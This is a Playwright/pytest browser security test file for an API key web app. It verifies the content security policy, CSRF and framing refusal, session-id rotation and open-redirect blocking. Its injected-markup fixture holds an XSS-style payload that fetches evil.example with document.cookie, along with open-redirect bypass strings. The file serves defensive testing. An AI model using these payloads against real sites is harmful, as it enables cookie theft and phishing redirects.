"""Browser security: content security policy, no external resources, CSRF and framing protection."""

from collections.abc import Iterator
from urllib.parse import unquote, urlsplit

import pytest
from playwright.async_api import expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse
from starlette.routing import Route

from keydesk.auth.session_cookie import SESSION
from tests.browser.conftest import AskApi, OpenWindow
from tests.browser.visit import Visit
from tests.browser.world import Newcomer
from tests.support.upstream.serving import served

pytestmark = [pytest.mark.anyio, pytest.mark.real_chromium]


EVERY_KIND = (
    "/", "/sign-in", "/keys", "/keys/new", "/keys/key_nothing/block", "/usage", "/teams", "/teams/platform", "/models",
    "/audit", "/admin", "/admin/configuration", "/nowhere", "/api/litellm/docs",
)  # fmt: skip


async def make_in_dialog(visit: Visit, alias: str) -> None:
    """Create a key in the dialog."""
    await visit.page.goto("/keys")
    await visit.page.get_by_role("link", name="New key").click()
    await visit.page.get_by_role("dialog").get_by_label("Name", exact=True).fill(alias)
    await visit.page.get_by_role("button", name="Create key").click()
    await expect(visit.page.get_by_label("API key", exact=True)).to_be_visible()


@pytest.fixture(scope="module")
def foreign_site() -> Iterator[str]:
    """Another site on this machine with a form to any URL."""

    def form(request: Request) -> HTMLResponse:
        fields = "".join(
            f'<input name="{name}" value="{value}">' for name, value in request.query_params.items()
        )
        action = request.query_params.get("action")
        if action is None:
            return HTMLResponse(f'<iframe src="{request.query_params["frames"]}"></iframe>')
        return HTMLResponse(f'<form method="post" action="{action}">{fields}<button>Win</button></form>')

    with served(Starlette(routes=[Route("/", form)])) as url:
        yield url


async def test_pages_forbid_inline_scripts_and_external_resources(as_jane: Visit) -> None:
    for path in EVERY_KIND:
        answer = await as_jane.page.request.get(path)
        policy = answer.headers["content-security-policy"]
        directives = {part.split()[0]: part.split()[1:] for part in policy.split(";")}
        assert directives["default-src"] == ["'none'"]
        assert directives["style-src"] == ["'self'"]
        assert directives["script-src"] == ["'self'"]
        assert directives["connect-src"] == ["'self'"]
        assert directives["frame-ancestors"] == ["'none'"]
        assert "unsafe-inline" not in policy
        assert answer.headers["cache-control"] == "no-store"


SMUGGLED = """() => {
  const main = document.querySelector("main");
  window.refused = [];
  document.addEventListener("securitypolicyviolation", event => window.refused.push(event.effectiveDirective));
  const put = (name, members) => main.append(Object.assign(document.createElement(name), members));
  put("script", { textContent: "document.body.id = 'owned'" });
  put("script", { src: "http://evil.example/x.js" });
  put("style", { textContent: "body { opacity: 0.5 }" });
  put("img", { src: "http://evil.example/x.png" });
  put("iframe", { src: "http://evil.example/" });
  main.insertAdjacentHTML("beforeend", `<b id="trap" onclick="document.body.id = 'owned'" style="color: red">x</b>`);
  document.querySelector("#trap").click();
  return fetch("http://evil.example/?" + document.cookie).then(() => "sent", () => "refused");
}"""
"""Markup that an attacker would inject into an unescaped value."""
REFUSED = [
    "script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src", "connect-src", "frame-src",
]  # fmt: skip


@pytest.mark.parametrize(
    "path", ["/", "/keys", "/usage", "/teams/platform", "/audit", "/admin/configuration"]
)
async def test_injected_markup_has_no_effect(as_jane: Visit, path: str) -> None:
    await as_jane.page.goto(path)
    assert await as_jane.page.evaluate(SMUGGLED) == "refused"
    await as_jane.page.wait_for_function("kinds => kinds.every(kind => refused.includes(kind))", arg=REFUSED)
    assert await as_jane.page.evaluate("document.body.id") == ""
    assert await as_jane.page.evaluate("getComputedStyle(document.body).opacity") == "1"
    assert [
        request.url for request in as_jane.requests if "evil" in request.url and request.failure is None
    ] == []
    as_jane.complaints.clear()
    as_jane.requests.clear()


async def test_pages_have_no_inline_script_and_no_external_resources(
    as_newcomer: Visit, newcomer: Newcomer
) -> None:
    """The window checks for errors and foreign requests when it closes."""
    await make_in_dialog(as_newcomer, f"{newcomer.user_id} walk")
    await as_newcomer.follow("Done")
    await as_newcomer.press(f"Block {newcomer.user_id} walk")
    kinds = {request.resource_type for request in as_newcomer.requests}
    assert kinds <= {"document", "stylesheet", "script", "fetch", "image", "other"}
    inline = "script:not([src]), [style], style, [onclick], [onload]"
    assert await as_newcomer.page.locator(inline).count() == 0


async def test_everything_works_without_scripts(window: OpenWindow, newcomer: Newcomer) -> None:
    async with window(java_script_enabled=False) as visit:
        await visit.become(newcomer.name)
        await visit.page.goto("/keys")
        await visit.follow("New key")
        await visit.page.get_by_label("Name", exact=True).fill(f"{newcomer.user_id} plain")
        await visit.press("Create key")
        await visit.follow("Done")
        await visit.press("Theme: system")
        assert await visit.page.locator("html").get_attribute("data-theme") == "dark"
        await visit.page.get_by_role("searchbox").fill("nothing like it")
        await visit.press("Search")
        await expect(visit.page.get_by_text("No keys match")).to_be_visible()
        await visit.follow("Show all keys")
        await visit.follow(f"Delete {newcomer.user_id}")
        await visit.press("Delete key")
        await expect(visit.page.get_by_text("You have no keys yet")).to_be_visible()


async def test_another_sites_form_creates_no_key(
    as_newcomer: Visit, newcomer: Newcomer, foreign_site: str, api: AskApi
) -> None:
    """For cookies, another port of this machine is the same site: only the origin differs."""
    target = f"{as_newcomer.origin}/keys"
    await as_newcomer.page.goto(f"{foreign_site}/?action={target}&alias=stolen&max_budget=1")
    assert (await as_newcomer.press("Win")).status == 403
    assert await (await api(newcomer.user_id)).read("/keys") == []
    as_newcomer.requests.clear()


async def test_another_sites_form_cannot_sign_a_person_in_or_out(as_jane: Visit, foreign_site: str) -> None:
    for path in ("/sign-in", "/sign-out"):
        await as_jane.page.goto(f"{foreign_site}/?action={as_jane.origin}{path}&person=bob")
        assert (await as_jane.press("Win")).status == 403
    await as_jane.page.goto("/")
    await expect(as_jane.page.get_by_role("heading", level=1)).to_contain_text("Jane Doe")
    as_jane.requests.clear()


async def test_another_site_cannot_frame_a_page(as_jane: Visit, foreign_site: str) -> None:
    await as_jane.page.goto(f"{foreign_site}/?frames={as_jane.origin}/keys/new")
    frame = as_jane.page.frames[1]
    await expect(frame.locator("body")).not_to_contain_text("New key")
    assert not frame.url.startswith(as_jane.origin)
    as_jane.requests.clear()
    as_jane.complaints.clear()


async def test_a_planted_session_id_is_not_used(visit: Visit) -> None:
    """An attacker who set the session id must not know the id after sign-in."""
    planted = "A" * 43
    await visit.page.context.add_cookies([{"name": SESSION, "value": planted, "url": visit.origin}])
    await visit.become("Jane Doe")
    first = await session_of(visit)
    assert first != planted
    await visit.become("Jane Doe")
    assert await session_of(visit) != first
    await visit.page.context.add_cookies([{"name": SESSION, "value": first, "url": visit.origin}])
    await visit.page.goto("/")
    assert visit.page.url.endswith("/sign-in?next=/")


async def session_of(visit: Visit) -> str:
    (found,) = [each for each in await visit.page.context.cookies() if each["name"] == SESSION]
    assert found["httpOnly"]
    assert found["sameSite"] == "Lax"
    return str(found["value"])


@pytest.mark.parametrize(
    "away", ["//evil.example", "https://evil.example/", "/\\evil.example", "/%09/evil.example"]
)
async def test_a_sign_in_never_redirects_to_another_site(visit: Visit, away: str) -> None:
    await visit.page.goto(f"/sign-in?next={away}")
    assert await visit.page.locator("form[action='/sign-in'] [name=next]").first.get_attribute("value") == "/"
    # A modified form cannot redirect to another site either.
    await visit.page.locator("form[action='/sign-in'] [name=next]").evaluate_all(
        "(fields, away) => fields.forEach(field => { field.value = away })", unquote(away)
    )
    await visit.press("Jane Doe")
    assert urlsplit(visit.page.url).netloc == urlsplit(visit.origin).netloc
